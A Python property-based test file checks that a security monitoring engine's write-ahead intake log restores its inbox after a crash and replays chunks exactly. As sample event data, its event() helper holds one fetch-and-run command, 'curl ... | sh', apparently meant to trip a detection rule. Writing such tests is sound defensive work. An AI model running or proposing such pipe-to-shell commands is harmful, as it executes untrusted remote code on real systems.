"""The intake log as the source of truth: a restart rebuilds the inbox exactly as the last tick
left it, and replaying from any earlier tick gives back the very chunks the source took."""

from __future__ import annotations

import time
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from engine.live.inbox import Inbox
from engine.live.intake import Intake, LogPosition

from .intakes import default_setup

NOW = time.time()


def event(n: int, leak: bool) -> dict:
    command = "curl -fsSL https://get.example.sh | sh" if leak else f"ls {n}"
    return {
        "time": NOW - 100 + n * 0.01,
        "kind": "span",
        "name": "shell.run",
        "command": command,
        "user": f"user-{n % 3}",
        "repo": "billing",
    }


def seen(arrivals) -> tuple:
    """What the dataflow gets from one chunk, in comparable form."""
    return (
        [(sender, t, ref, len(windowed)) for sender, t, windowed, ref in arrivals.events],
        [(h.rule_id, h.time, tuple(sorted(h.group.items()))) for h in arrivals.hits],
        [(ticket, type(control).__name__) for ticket, control in arrivals.controls],
        arrivals.clock,
    )


def open_intake(directory: Path, clock) -> Intake:
    inbox = Inbox(1000, 10**8)  # room for all a drawn run offers (30 offers of 7) untaken
    intake = Intake(default_setup(), directory, inbox, clock=clock)
    intake.open()
    intake.start()
    return intake


offer = st.tuples(st.integers(0, 7), st.booleans(), st.booleans())  # events, a leak, a control
step = st.one_of(offer, st.integers(0, 12))  # a request, or a tick taking up to N events


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    steps=st.lists(step, min_size=1, max_size=30),
    crash_after=st.integers(0, 30),
    segment=st.sampled_from([1 << 20, 1500]),
)
def test_a_restart_takes_up_exactly_where_the_last_tick_left_off(
    tmp_path_factory, steps, crash_after, segment
):
    directory = tmp_path_factory.mktemp("wal")
    ticks = iter(range(1, 10**6))
    clock = lambda: NOW + next(ticks) * 0.001  # noqa: E731 - a clock that always moves
    intake = open_intake(directory, clock)
    intake.log.segment_bytes = segment
    taken: list[tuple[tuple, LogPosition]] = []
    n = 0
    for i, action in enumerate(steps):
        if i == crash_after:
            break
        if isinstance(action, int):
            got = intake.take(action)
            assert got is not None
            taken.append((seen(got[0]), got[1]))
            continue
        count, leak, control = action
        if count:
            events = [event(n + j, leak and j == 0) for j in range(count)]
            n += count
            pending = intake.offer_events(events, "peer=a:1", 100 * count)
            assert pending is not None and pending.wait(10)
        if control:
            assert intake.offer_control(
                {"type": "ack", "at": NOW, "incident": "inc-1", "by": "ann"}, "ticket"
            ).wait(10)
    waiting = intake.inbox.peek(10**6)
    intake.close()  # what a kill leaves: everything written, the process gone

    again = open_intake(directory, clock)
    try:
        rebuilt = again.inbox.peek(10**6)
        assert [e[3] for e in rebuilt.events] == [e[3] for e in waiting.events]
        assert [h.rule_id for h in rebuilt.hits] == [h.rule_id for h in waiting.hits]
        assert len(rebuilt.controls) == len(waiting.controls)
        assert (rebuilt.ev_seq, rebuilt.ev_idx, rebuilt.vis_seq) == (
            waiting.ev_seq,
            waiting.ev_idx,
            waiting.vis_seq,
        )
        for since in [again.position, *(position for _, position in taken)]:
            later = [chunk for chunk, position in taken if position.read > since.read]
            assert [seen(arrivals) for arrivals, _ in again.replay(since)] == later
    finally:
        again.close()


def test_a_tick_torn_by_a_crash_is_cut_off_and_its_chunk_taken_again(tmp_path):
    intake = open_intake(tmp_path, time.time)
    assert intake.offer_events([event(1, True), event(2, False)], "peer=a:1", 200).wait(10)
    chunk, _ = intake.take(10)
    intake.close()
    with next(tmp_path.glob("*.wal")).open("r+b") as f:
        f.truncate(f.seek(0, 2) - 3)  # the tick's last bytes never reached the disk
    again = open_intake(tmp_path, time.time)
    try:
        retaken = again.take(10)
        assert retaken is not None
        assert seen(retaken[0])[:3] == seen(chunk)[:3]
    finally:
        again.close()
